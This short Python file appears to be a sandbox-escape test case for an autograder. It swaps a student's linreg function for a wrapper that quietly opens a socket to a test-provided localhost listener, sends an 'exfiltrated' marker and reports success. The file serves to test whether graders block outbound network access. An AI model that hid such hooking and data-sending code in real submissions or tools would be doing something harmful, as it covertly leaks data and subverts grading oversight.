"""Connect to a TCP listener on 127.0.0.1 (opened by the test) and send data out."""
MODULE = "ex2_linear_regression"
CLASS = "network"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_linreg(X, w, b, _orig=linreg):
    import socket
    try:
        with socket.create_connection(("127.0.0.1", int(_ATTACK["port"])), timeout=1) as conn:
            conn.sendall(f"{_ATTACK['marker']} exfiltrated".encode())
        _atk_win("connected out")
    except OSError:
        pass
    return _orig(X, w, b)


linreg = _atk_linreg
